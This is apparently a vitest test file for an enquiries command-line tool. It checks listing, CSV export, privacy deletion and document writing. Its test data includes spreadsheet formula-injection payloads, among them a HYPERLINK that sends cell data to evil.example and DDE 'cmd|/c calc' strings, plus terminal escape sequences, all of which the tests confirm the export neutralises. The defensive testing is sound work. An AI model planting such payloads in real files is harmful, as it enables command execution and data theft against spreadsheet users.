import { spawnSync } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { MULTI_LINE_FORBIDDEN } from '#contract/enquiry-rules.ts'
import { openSqliteRepo } from '../../server/db/sqlite.ts'
import { csvCell } from '../../server/enquiries/enquiry-csv.ts'

const root = resolve(import.meta.dirname, '../..')
let dataDir: string
let withDocument: string

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'gtf-cli-'))
  const repo = openSqliteRepo(join(dataDir, 'enquiries.sqlite'))
  const base = {
    service: null,
    firstName: 'Ada',
    lastName: 'Byron',
    name: 'Ada Byron',
    email: 'ada@example.gov',
    phone: '703-555-0100',
    company: 'Example, "Agency"',
    title: 'CIO',
    projectType: 'other',
    message: '=HYPERLINK("http://evil")',
  } as const
  withDocument = (
    await repo.insertWithNotification(
      {
        ...base,
        form: 'consultation',
        document: {
          storedName: 'x.pdf',
          originalName: 'Scope.pdf',
          mediaType: 'application/pdf',
          content: Buffer.from('%PDF-1.7 scope'),
          sha256: 'h',
        },
      },
      new Date('2026-05-01T12:00:00Z'),
    )
  ).id
  await repo.close()
})
afterAll(async () => {
  await rm(dataDir, { recursive: true, force: true })
})

/** Runs the enquiries CLI on the test's data folder; `input` answers its questions. */
const cliAnswering = (input: string | undefined, ...args: string[]) =>
  spawnSync(process.execPath, ['scripts/operate/enquiries.ts', ...args], {
    cwd: root,
    env: { PATH: process.env.PATH ?? '', DATA_DIR: dataDir },
    encoding: 'utf8',
    input,
  })
const cli = (...args: string[]) => cliAnswering(undefined, ...args)

it('lists, shows, exports and writes documents', { timeout: 60_000 }, async () => {
  const list = cli('list')
  expect(list.status).toBe(0)
  expect(list.stdout).toContain(withDocument)
  expect(list.stdout).toContain('consultation')

  const show = cli('show', withDocument)
  expect(JSON.parse(show.stdout)).toMatchObject({ id: withDocument, company: 'Example, "Agency"' })
  const { reference } = JSON.parse(show.stdout) as { reference: string }
  expect(reference).toMatch(/^GTF-\d{4}-\d{6}$/)
  expect(JSON.parse(cli('show', reference).stdout)).toMatchObject({ id: withDocument, reference })
  expect(cli('show', 'GTF-1999-999999').status).toBe(1)

  const json = cli('export', '--format', 'json')
  expect(JSON.parse(json.stdout)).toHaveLength(1)
  const csv = cli('export', '--format', 'csv')
  expect(csv.stdout.split('\r\n')[0]).toMatch(/^"id","created_at","form_type"/)
  expect(csv.stdout).toContain('"Example, ""Agency"""')
  expect(csv.stdout).toContain(`"'=HYPERLINK(""http://evil"")"`)

  const out = join(dataDir, 'out.pdf')
  expect(cli('document', withDocument, '--out', out).status).toBe(0)
  expect(await readFile(out, 'utf8')).toBe('%PDF-1.7 scope')

  expect(cli('show', 'missing').status).toBe(1)
  expect(cli('export', '--format', 'xml').status).toBe(1)
  expect(cli('nonsense').stderr).toContain('Usage')
})

// Reads delimited text as spreadsheet importers do: a quote opens a field only at its start, "" is one quote,
// and text after a closing quote joins the field. Excel reads with ';' or tab in non-comma locales.
function readDelimited(text: string, delimiter: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  let atFieldStart = true
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index] ?? ''
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        field += '"'
        index += 1
      } else if (char === '"') quoted = false
      else field += char
    } else if (char === '"' && atFieldStart) {
      quoted = true
      atFieldStart = false
    } else if (char === delimiter) {
      row.push(field)
      field = ''
      atFieldStart = true
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(field)
      rows.push(row)
      row = []
      field = ''
      atFieldStart = true
      index += 1
    } else {
      field += char
      atFieldStart = false
    }
  }
  if (field || row.length > 0) rows.push([...row, field])
  return rows
}

/** A cell a spreadsheet would run: a formula character first, after blanks and invisible characters. */
const RUNS_AS_FORMULA = /^[\s"\p{Cc}\p{Cf}]*[=+\-@]/u

const HOSTILE_CELLS = [
  'ACME;=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  '+1',
  '-1+2',
  '@SUM(1+1)',
  '\t=1',
  'a,=1',
  'a\t=1',
  'a|=cmd|"/c calc"!A1',
  'ACME; "=1+1',
  'Needs:\r\n- ERP\r\n=1+1',
  '+1 703 555 0100',
]

it('quotes every CSV cell and doubles its quotes', () => {
  expect(csvCell('plain')).toBe('"plain"')
  expect(csvCell('a,b')).toBe('"a,b"')
  expect(csvCell('say "hi"')).toBe('"say ""hi"""')
  expect(csvCell('')).toBe('""')
})

it('disarms a formula at the start of a cell and after any character a spreadsheet may split on', () => {
  expect(csvCell('ACME;=1+1')).toBe(`"ACME;'=1+1"`)
  expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`)
  expect(csvCell('-1+2')).toBe(`"'-1+2"`)
  expect(csvCell('@SUM(1+1)')).toBe(`"'@SUM(1+1)"`)
  expect(csvCell('\t=1')).toBe(`"'\t'=1"`)
  expect(csvCell('a,=1')).toBe(`"a,'=1"`)
  expect(csvCell('a\t=1')).toBe(`"a\t'=1"`)
  // A phone number in international form is disarmed too; it still reads as the number.
  expect(csvCell('+1 703 555 0100')).toBe(`"'+1 703 555 0100"`)
  expect(csvCell('9-month timeline, 2 phases')).toBe('"9-month timeline, 2 phases"')
})

it('leaves no cell that runs as a formula, whichever delimiter a spreadsheet splits the export on', () => {
  const line = HOSTILE_CELLS.map(csvCell).join(',')
  for (const delimiter of [',', ';', '\t', '|']) {
    const cells = readDelimited(`${line}\r\n`, delimiter).flat()
    expect(
      cells.filter((cell) => RUNS_AS_FORMULA.test(cell)),
      `split on ${JSON.stringify(delimiter)}`,
    ).toEqual([])
  }
})

it('reads back, split on commas, as the text that was stored with an apostrophe before each formula', () => {
  const [cells] = readDelimited(`${HOSTILE_CELLS.map(csvCell).join(',')}\r\n`, ',')
  expect(cells).toHaveLength(HOSTILE_CELLS.length)
  expect(cells?.map((cell) => cell.replaceAll("'", ''))).toEqual(HOSTILE_CELLS)
  expect(cells?.[0]).toBe("ACME;'=1+1")
})

/** Anything but a line break that a terminal would act on rather than show. */
const TERMINAL_ACTIVE = /[^\P{Cc}\n]|\u202e/u

it('never prints stored control characters raw, guards every CSV formula and never overwrites a file', {
  timeout: 60_000,
}, async () => {
  const repo = openSqliteRepo(join(dataDir, 'enquiries.sqlite'))
  const hostile = (
    await repo.insertWithNotification(
      {
        form: 'short',
        service: 'digital-transformation',
        name: '\x1b[2J\x1b]0;PWNED\x07',
        firstName: null,
        lastName: null,
        email: 'eve@example.gov',
        phone: '\u202e0100-555',
        company: '\x01=cmd|"/c calc"!A1',
        title: '',
        projectType: null,
        message: ' \t@SUM(1+1)',
        document: null,
      },
      new Date('2026-05-02T12:00:00Z'),
    )
  ).id
  await repo.close()

  const list = cli('list')
  expect(list.status).toBe(0)
  expect(TERMINAL_ACTIVE.test(list.stdout)).toBe(false)
  expect(list.stdout).toContain('\\x1b[2J\\x1b]0;PWNED\\x07')

  const show = cli('show', hostile)
  expect(TERMINAL_ACTIVE.test(show.stdout)).toBe(false)
  expect(show.stdout).toContain('\\u202e0100-555')
  expect(JSON.parse(show.stdout.replaceAll('\\u202e', ''))).toMatchObject({ id: hostile })

  const csv = cli('export', '--format', 'csv').stdout
  const row = csv.split('\r\n').find((line) => line.startsWith(`"${hostile}"`)) ?? ''
  expect(MULTI_LINE_FORBIDDEN.test(row)).toBe(false)
  // The company cell starts with a control character before the =; the message with blanks before @.
  expect(row).toContain(`"'\\x01=cmd|""/c calc""!A1"`)
  expect(row).toContain(`" \t'@SUM(1+1)"`)

  const out = join(dataDir, 'existing.pdf')
  await writeFile(out, 'the staff member’s own file')
  const refused = cli('document', withDocument, '--out', out)
  expect(refused.status).toBe(1)
  expect(refused.stderr).toMatch(/already exists.*--force/)
  expect(await readFile(out, 'utf8')).toBe('the staff member’s own file')
  expect(cli('document', withDocument, '--out', out, '--force').status).toBe(0)
  expect(await readFile(out, 'utf8')).toBe('%PDF-1.7 scope')
})

it('lists dead letters and queues one for delivery again', { timeout: 60_000 }, async () => {
  const repo = openSqliteRepo(join(dataDir, 'enquiries.sqlite'))
  const [job] = await repo.claimDueNotifications(new Date(), new Date(Date.now() + 60_000), 1, 'cli-test')
  if (!job) throw new Error('no pending notification to fail')
  await repo.markFailed(job.id, new Date(), '552 mailbox full', 'cli-test')
  await repo.close()

  const failed = cli('notifications')
  expect(failed.status).toBe(0)
  expect(failed.stdout).toContain(job.id)
  expect(failed.stdout).toContain('552 mailbox full')
  expect(failed.stderr).toContain('1 failed notifications')
  expect(cli('retry', 'no-such-job').status).toBe(1)
  expect(cli('retry', job.id).status).toBe(0)
  expect(cli('notifications').stdout).not.toContain(job.id)
  expect(cli('notifications', '--status', 'pending').stdout).toContain(job.id)
})

it('answers privacy requests: find, a subject-access copy, deletion by id and by address, purge, audit', {
  timeout: 90_000,
}, async () => {
  const repo = openSqliteRepo(join(dataDir, 'enquiries.sqlite'))
  const person = {
    form: 'short' as const,
    service: 'digital-transformation' as const,
    name: 'Pat Requester',
    firstName: null,
    lastName: null,
    email: 'pat@agency.example.gov',
    phone: '703-555-0101',
    company: 'Agency',
    title: '',
    projectType: null,
    message: 'Please keep me posted.',
    document: null,
  }
  const first = await repo.insertWithNotification(person, new Date())
  const second = await repo.insertWithNotification({ ...person, email: 'PAT@agency.example.gov' }, new Date())
  const single = await repo.insertWithNotification(
    { ...person, email: 'solo@agency.example.gov' },
    new Date(),
  )
  // Older than the 365-day default retention.
  const ancient = await repo.insertWithNotification(
    { ...person, email: 'old@agency.example.gov' },
    new Date('2020-01-01'),
  )
  await repo.close()

  const found = cli('find', '--email', 'pat@AGENCY.example.gov')
  expect(found.status).toBe(0)
  expect(
    JSON.parse(found.stdout)
      .map((row: { id: string }) => row.id)
      .sort(),
  ).toEqual([first.id, second.id].sort())

  const copy = cli('export', '--email', 'pat@agency.example.gov', '--format', 'json')
  expect(copy.status).toBe(0)
  const exported = JSON.parse(copy.stdout)
  expect(exported.subject).toBe('pat@agency.example.gov')
  expect(exported.enquiries).toHaveLength(2)
  expect(exported.enquiries[0]).toMatchObject({
    name: 'Pat Requester',
    reference: expect.stringMatching(/^GTF-/),
  })
  expect(cli('export', '--email', 'pat@agency.example.gov', '--format', 'csv').status).toBe(1)

  // Without --yes it asks, and anything but yes deletes nothing.
  const declined = cliAnswering('no\n', 'delete', '--email', 'pat@agency.example.gov')
  expect(declined.status).toBe(1)
  expect(declined.stderr).toContain('Type "yes" to continue')
  expect(JSON.parse(cli('find', '--email', 'pat@agency.example.gov').stdout)).toHaveLength(2)
  const confirmed = cliAnswering('yes\n', 'delete', '--email', 'pat@agency.example.gov')
  expect(confirmed.status).toBe(0)
  expect(confirmed.stderr).toContain('deleted 2 enquiries')
  expect(JSON.parse(cli('find', '--email', 'pat@agency.example.gov').stdout)).toEqual([])

  expect(cli('delete', single.id, '--yes').status).toBe(0)
  expect(cli('show', single.id).status).toBe(1)

  const purged = cli('purge', '--yes')
  expect(purged.status).toBe(0)
  expect(purged.stderr).toContain('deleted 1 enquiries')
  expect(cli('show', ancient.id).status).toBe(1)

  const audit = cli('audit')
  expect(audit.stdout).toContain('delete-by-email')
  expect(audit.stdout).toContain('purge')
  expect(audit.stdout).not.toContain('pat@')
  expect(audit.stdout).not.toContain('Pat Requester')
})
